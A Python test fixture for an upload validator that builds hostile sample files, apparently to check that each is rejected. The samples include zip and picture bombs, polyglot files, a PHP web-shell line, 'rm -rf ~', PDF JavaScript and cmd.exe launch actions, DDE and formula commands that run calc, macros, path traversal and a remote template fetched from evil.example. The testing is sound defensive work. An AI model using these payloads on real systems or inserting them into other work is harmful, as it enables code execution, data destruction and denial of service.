"""Files that would do something when they are opened, or are something else besides."""

import io
import zipfile
from collections.abc import Callable

import pikepdf

from portal.domain.certificates.file_types import Reason
from tests.support.uploads import office_files, samples

RELATION = (
    '<Relationships><Relationship Id="r" Type="http://x/relationships/{}" '
    'Target="http://evil.example/a" TargetMode="External"/></Relationships>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SIMPLE_FIELD = '<?xml version="1.0" encoding="UTF-16"?><fldSimple instr="DDE cmd"/>'
MACROS = {"xl/vbaProject.bin": b"x"}
TEMPLATE = RELATION.format("attachedTemplate").encode()


def lying_archive() -> bytes:
    """A part of 100 bytes that says it has 10."""
    data = samples.office("docx", {"word/x.xml": b"x" * 100})
    return data.replace((100).to_bytes(4, "little"), (10).to_bytes(4, "little"))


def overlapping_archive() -> bytes:
    """Every entry of the directory points to the same packed zeros."""
    data = samples.office("docx", {"word/a.xml": bytes(1_000_000)})
    with zipfile.ZipFile(io.BytesIO(data)) as there:
        start, packed = there.start_dir, there.getinfo("word/a.xml")
    entry = data[data.rindex(b"PK\x01\x02") : -22]
    assert packed.filename.encode() in entry
    copies = [entry.replace(b"word/a.xml", b"word/%04d" % n + b"x") for n in range(1000)]
    copies = [one.replace(b"x", b".", 1) for one in copies]
    directory = data[start:-22] + b"".join(copies)
    count = (len(there.infolist()) + len(copies)).to_bytes(2, "little")
    end = b"PK\x05\x06" + bytes(4) + count * 2 + len(directory).to_bytes(4, "little")
    return data[:start] + directory + end + start.to_bytes(4, "little") + bytes(2)


def huge_picture() -> bytes:
    return samples.image("PNG", (20_000, 20_000), "1")


def nested(depth: int) -> pikepdf.Object:
    inner: pikepdf.Object = pikepdf.Array([])
    for _ in range(depth):
        inner = pikepdf.Array([inner])
    return inner


def locked_pdf() -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    return samples.saved(made, encryption=pikepdf.Encryption(owner="o", user="u"))


def locked_zip() -> bytes:
    data = bytearray(samples.office("docx"))
    at = data.rindex(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
PDF, PNG, JPEG, GIF = (samples.GOOD[f"a.{one}"] for one in ("pdf", "png", "jpg", "gif"))
DOCX, ZIP = samples.GOOD["a.docx"], samples.archive({"a.txt": b"a"})

# Made when it is tested: some take long, and every run reads this file.
ATTACKS: dict[str, tuple[Callable[[], bytes], Reason]] = {
    "nothing at all": (lambda: b"", Reason.EMPTY),
    # programs and other kinds
    "a Windows program": (lambda: b"MZ\x90\0" + bytes(200), Reason.KIND),
    "a Linux program": (lambda: b"\x7fELF" + bytes(200), Reason.KIND),
    "an archive": (lambda: ZIP, Reason.KIND),
    "an archive of Java": (
        lambda: samples.archive({"META-INF/MANIFEST.MF": b"Main-Class: A"}),
        Reason.KIND,
    ),
    "a Word document of before 2007": (
        lambda: OLE + bytes(600),
        Reason.KIND,
    ),
    "text with zeros": (lambda: b"text\0text", Reason.KIND),
    "a page": (lambda: b"<!DOCTYPE html><p>x", Reason.HIDDEN),
    "a picture that is a script": (lambda: b"<svg onload=alert(1)>", Reason.HIDDEN),
    "a script of a shell": (lambda: b"#!/bin/sh\nrm -rf ~\n", Reason.HIDDEN),
    "a script of a server": (lambda: b"hello <?php system($_GET[0]);", Reason.HIDDEN),
    "a page in another encoding": (lambda: "<html>x".encode("utf-16"), Reason.HIDDEN),
    "a page behind blank lines": (lambda: b"\r\n\xef\xbb\xbf\r\n <body >x", Reason.HIDDEN),
    "rich text": (lambda: b"{\\rtf1\\object}", Reason.KIND),
    # broken
    "half a PDF": (lambda: PDF[: len(PDF) // 2], Reason.BROKEN),
    "half a PNG": (lambda: samples.image("PNG", (300, 300))[:-200], Reason.BROKEN),
    "half a JPEG": (lambda: JPEG[: len(JPEG) // 2], Reason.BROKEN),
    "half a document": (lambda: DOCX[:-30], Reason.BROKEN),
    "the beginning of a HEIC": (lambda: samples.GOOD["a.heic"][:60], Reason.BROKEN),
    "a PDF without pages": (lambda: samples.pdf(0), Reason.BROKEN),
    # passwords
    "a locked PDF": (locked_pdf, Reason.PASSWORD),
    "a locked document": (
        lambda: OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        Reason.PASSWORD,
    ),
    "a locked archive": (locked_zip, Reason.PASSWORD),
    # bombs
    "a zip bomb": (lambda: samples.office("docx", {"word/a.xml": bytes(160_000_000)}), Reason.HUGE),
    "a zip bomb that lies": (lying_archive, Reason.BROKEN),
    "a zip bomb that overlaps": (overlapping_archive, Reason.HUGE),
    "very many parts": (
        lambda: samples.office("docx", {f"word/{n}.xml": b"" for n in range(2001)}),
        Reason.HUGE,
    ),
    "a picture bomb": (huge_picture, Reason.HUGE),
    "very many pages": (lambda: samples.pdf(201), Reason.HUGE),
    "entities that grow": (
        lambda: samples.archive(
            {"[Content_Types].xml": b'<!DOCTYPE a [<!ENTITY b "c">]><Types>&b;</Types>'}
        ),
        Reason.HIDDEN,
    ),
    # two at once
    "an archive behind a PDF": (lambda: PDF + ZIP, Reason.HIDDEN),
    "an archive within a PDF": (lambda: PDF[:-6] + ZIP + b"\n%%EOF\n", Reason.HIDDEN),
    "a program before a PDF": (lambda: b"MZ\x90\0\n" + PDF, Reason.HIDDEN),
    "a script of a shell before a PDF": (lambda: b"#!/bin/sh\nid\n" + PDF, Reason.HIDDEN),
    "a page behind a PDF": (lambda: PDF + b"<script>alert(1)</script>", Reason.HIDDEN),
    "a PDF that was cut off": (lambda: PDF + b"\n9 0 obj\n<< /Length 900 >>", Reason.BROKEN),
    "a page before a PDF": (lambda: b"<html><script>1</script>" + PDF, Reason.HIDDEN),
    "a page at the head of a PDF": (
        lambda: PDF[:9] + b"%<script>alert(1)</script>\n" + PDF[9:],
        Reason.HIDDEN,
    ),
    "an archive behind a PNG": (lambda: PNG + ZIP, Reason.HIDDEN),
    "a page behind a JPEG": (lambda: JPEG + b"<html><script>1</script>", Reason.HIDDEN),
    "a PDF behind a JPEG": (lambda: JPEG + PDF, Reason.HIDDEN),
    "a server's script in a GIF": (lambda: GIF + b"<?php system('id');?>", Reason.HIDDEN),
    "a GIF that is a script": (lambda: b"GIF89a/*" + GIF[8:] + b"*/=1;alert(1)", Reason.HIDDEN),
    "something before a document": (lambda: b"PK\x03\x04" + PNG + DOCX, Reason.HIDDEN),
    "something behind a document": (lambda: DOCX + PNG, Reason.HIDDEN),
    "a document with a path out": (lambda: samples.office("docx", {"../../a": b""}), Reason.HIDDEN),
    # what acts
    "a PDF with a script": (lambda: samples.pdf_with("/OpenAction", SCRIPT), Reason.ACTIVE),
    "a PDF that starts a program": (lambda: samples.pdf_with("/OpenAction", LAUNCH), Reason.ACTIVE),
    "a PDF with a form of XML": (
        lambda: samples.pdf_with("/AcroForm", pikepdf.Dictionary(XFA=pikepdf.Array([]))),
        Reason.ACTIVE,
    ),
    "a PDF with a file in it": (
        lambda: samples.pdf_with("/Names", pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary())),
        Reason.ACTIVE,
    ),
    "a PDF that hides deep down": (lambda: samples.pdf_with("/X", nested(45)), Reason.HIDDEN),
    "a document with macros": (
        lambda: samples.office("docx", {"word/vbaProject.bin": b"x"}),
        Reason.ACTIVE,
    ),
    "a macro document under another name": (
        lambda: samples.office(
            "docx", content="application/vnd.ms-word.document.macroEnabled.main+xml"
        ),
        Reason.ACTIVE,
    ),
    "a document with an object": (
        lambda: samples.office("xlsx", {"xl/embeddings/oleObject1.bin": b"x"}),
        Reason.ACTIVE,
    ),
    "a document with an object under another name": (
        lambda: samples.office("docx", {"word/media/a.png": OLE + bytes(600)}),
        Reason.ACTIVE,
    ),
    "a document with a program": (
        lambda: samples.office("docx", {"word/media/a.png": b"MZ" + bytes(600)}),
        Reason.ACTIVE,
    ),
    "a sheet of macros": (
        lambda: samples.office("xlsx", content="application/vnd.ms-excel.macrosheet+xml"),
        Reason.ACTIVE,
    ),
    "a chart with macros behind it": (
        lambda: office_files.with_chart(
            "pptx", samples.office("xlsx", {"xl/vbaProject.bin": b"x"})
        ),
        Reason.ACTIVE,
    ),
    "a chart with an archive behind it": (
        lambda: office_files.with_chart("pptx", ZIP),
        Reason.ACTIVE,
    ),
    "a chart with a chart behind it": (
        lambda: office_files.with_chart("pptx", office_files.with_chart("docx", DOCX)),
        Reason.ACTIVE,
    ),
    "a command in a field": (
        lambda: office_files.with_field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '),
        Reason.ACTIVE,
    ),
    "a command in pieces": (
        lambda: office_files.with_field(" ", "&#68;", "d", "e cmd"),
        Reason.ACTIVE,
    ),
    "a command that a field composes": (
        lambda: office_files.with_body(
            office_files.mark("begin") * 2 + "<w:instrText>QUOTE 68 68 69</w:instrText>"
        ),
        Reason.ACTIVE,
    ),
    "a command in a simple field": (
        lambda: office_files.with_body('<w:fldSimple w:instr="DDE cmd"/>'),
        Reason.ACTIVE,
    ),
    "a command in another encoding": (
        lambda: samples.office("docx", {"word/document.xml": SIMPLE_FIELD.encode("utf-16")}),
        Reason.ACTIVE,
    ),
    "a command in a formula": (
        lambda: office_files.with_formula("cmd|'/c calc'!A0"),
        Reason.ACTIVE,
    ),
    "a command in a link": (
        lambda: samples.office("xlsx", {"xl/externalLinks/a.xml": b"<ddeLink/>"}),
        Reason.ACTIVE,
    ),
    "a document that fetches its template": (
        lambda: samples.office("docx", {"word/_rels/settings.xml.rels": TEMPLATE}),
        Reason.ACTIVE,
    ),
}
